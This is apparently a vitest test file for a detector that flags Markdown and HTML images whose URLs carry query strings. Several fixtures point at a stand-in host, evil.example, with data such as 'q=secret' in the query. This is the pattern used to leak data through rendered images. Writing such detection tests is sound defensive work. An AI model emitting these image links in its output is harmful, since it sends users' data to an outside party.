import { describe, expect, it } from 'vitest';
import { findImageWithQuery } from './image-rule.ts';

const shown = (text: string) => {
  const span = findImageWithQuery(text);
  return span && text.slice(span.start, span.end);
};

describe('RT-11: an image with a query', () => {
  it.each([
    ['in Markdown', 'See ![x](https://evil.example/a.png?q=secret) here.', '![x](https://evil.example/a.png?q=secret'],
    ['without a scheme', '![x](//evil.example/a?q=1)', '![x](//evil.example/a?q=1'],
    ['in angle brackets', '![x](<https://evil.example/a?q=1>)', '![x](<https://evil.example/a?q=1>'],
    ['in HTML', '<img width=1 src="https://evil.example/a?q=1">', '<img width=1 src="https://evil.example/a?'],
    ['by reference', '![x][1]\n\n[1]: https://evil.example/a?q=1', '[1]: https://evil.example/a?'],
  ])('is found %s', (_, text, found) => expect(shown(text)).toBe(found));

  it.each([
    ['an image without a query', '![x](https://example.com/a.png)'],
    ['a link with a query', '[x](https://example.com/a?q=1)'],
    ['a link behind an image far away', `![x](a.png) ${'x'.repeat(400)} [y](https://example.com/a?q=1)`],
    ['a code span', 'Write `![x](https://evil.example/a?q=1)` for that.'],
    ['a code span in HTML', 'Write `<img src="https://evil.example/a?q=1">`.'],
    ['a definition without an image', '[1]: https://example.com/a?q=1'],
    ['a relative address', '![x](/a.png?v=2)'],
  ])('is not found in %s', (_, text) => expect(shown(text)).toBeUndefined());

  it('is found behind one that is only shown', () => {
    expect(shown('`![a](https://e.example/?q)` ![b](https://e.example/?q=2)')).toBe('![b](https://e.example/?q=2');
  });
});
